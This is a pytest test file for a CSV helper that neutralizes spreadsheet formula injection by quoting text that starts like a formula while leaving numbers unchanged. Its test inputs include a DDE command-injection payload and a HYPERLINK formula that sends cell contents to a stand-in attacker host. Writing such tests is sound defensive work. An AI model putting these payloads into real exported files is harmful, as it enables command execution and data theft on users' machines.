"""config.csv_cells: text a spreadsheet would evaluate is written as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from config.csv_cells import csv_cell, csv_writer


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "-1"])
def test_text_that_starts_like_a_formula_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["web-1", "127.0.0.1", "", " =1 is not first", "'already quoted", "{\"a\": 1}"])
def test_other_text_is_written_as_it_is(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("number", [-1, -7.5, Decimal("-3.2"), 0, 443])
def test_numbers_the_code_writes_stay_numbers_even_negative(number):
    assert csv_cell(number) == number


def test_the_writer_neutralizes_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", "score"])
    writer.writerows([["=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")", -4], ["@x", None]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "score"], ["'=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")", "-4"], ["'@x", ""]]


def test_no_product_code_writes_csv_but_through_the_helper():
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    apps = ("config", "orgs", "interventions", "nodes", "scans", "reports")
    writers = [str(path.relative_to(root)) for app in apps for path in (root / app).rglob("*.py")
               if path.name != "csv_cells.py"
               and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter("))]
    assert writers == []
